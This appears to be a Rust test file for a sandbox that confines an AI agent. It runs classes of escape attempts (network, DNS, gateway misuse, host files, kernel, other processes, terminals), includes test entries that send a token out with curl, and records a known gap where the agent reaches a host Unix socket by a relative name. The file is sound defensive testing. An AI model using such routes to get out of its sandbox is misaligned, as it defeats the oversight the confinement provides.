//! Every attempt of the table, by the agent.

use rcc_attacks::runner::{ALLOWED, Targets, stand};
use rcc_attacks::{Attack, Control, Expect, Trace, table};
use rcc_rig::{Rig, USER};
use rcc_world::{Setup, inside_with};

const WORLD: Setup = Setup { user: Some(USER), as_user: false, private_tmp: false, no_wire: false, outside: false };

macro_rules! class {
    ($test:ident, $class:ident) => {
        #[test]
        fn $test() {
            inside_with(WORLD, |world| {
                let rig = Rig::start(world, ALLOWED, "")?;
                let _targets = Targets::place(&rig)?;
                stand(&rig, table::$class::ATTACKS)?;
                Ok(())
            });
        }
    };
}

class!(packets_to_addresses, network);
class!(names_as_a_way_out, dns);
class!(what_is_allowed_used_for_something_else, gateway);
class!(what_listens_on_the_host, local);
class!(files_of_the_host, files);
class!(kernel_surface, kernel);
class!(other_processes, process);
class!(terminals, terminal);

#[test]
fn a_hole_and_an_attempt_without_a_control_are_seen() {
    inside_with(WORLD, |world| {
        let rig = Rig::start(world, ALLOWED, "")?;
        let _targets = Targets::place(&rig)?;
        let attack = |id, command, denied| Attack {
            id,
            what: "a mistake",
            command,
            trace: Trace::Wire,
            control: Control::User,
            denied,
        };
        let wrong = stand(
            &rig,
            &[
                attack("hole", "once(lambda: curl('http://allowed.example/' + T))", Expect::Exit("curl", 7)),
                attack("leak", "once(lambda: curl('http://allowed.example/' + T))", Expect::Harmless("is it?")),
                attack("otherwise", "once(lambda: tcp(SINK4, 80))", Expect::Errno("EPERM")),
                attack("vacuous", "once(lambda: tcp(SINK4, 1))", Expect::Errno("ENETUNREACH")),
                attack("silent", "each(lambda _: None, 1)", Expect::Harmless("nothing is done")),
            ],
        );
        let wrong = wrong.map_or_else(|e| e.to_string(), |tally| format!("{tally:?}"));
        for words in [
            "hole (a mistake): it was not denied",
            "was seen\nby servers",
            "otherwise (a mistake): it was to be denied by EPERM",
            "vacuous (a mistake) is VACUOUS",
            "silent (a mistake) is VACUOUS, its control fails: nobody saw its token",
        ] {
            assert!(wrong.contains(words), "{words}\nis not in\n{wrong}");
        }
        Ok(())
    });
}

/// A known limit, as docs/attacks.md says it. When this fails because rcc sees such a socket, it has done its work: the
/// limit and this test are to go.
#[test]
fn a_socket_in_the_project_by_a_relative_name_is_not_seen() {
    inside_with(WORLD, |world| {
        let rig = Rig::start(world, ALLOWED, "")?;
        std::env::set_current_dir(&rig.project)?;
        let daemon = std::os::unix::net::UnixListener::bind("daemon.sock")?;
        std::os::unix::fs::chown("daemon.sock", Some(rig.user.id), Some(rig.user.id))?;
        daemon.set_nonblocking(true)?;
        let script = "import socket; socket.socket(socket.AF_UNIX).connect('daemon.sock')";
        let (_, results) = rig.agent(&[&format!("python3 -c \"{script}\" && echo answered")])?;
        assert_eq!((results[0].trim(), daemon.accept().is_ok()), ("answered", true));
        Ok(())
    });
}
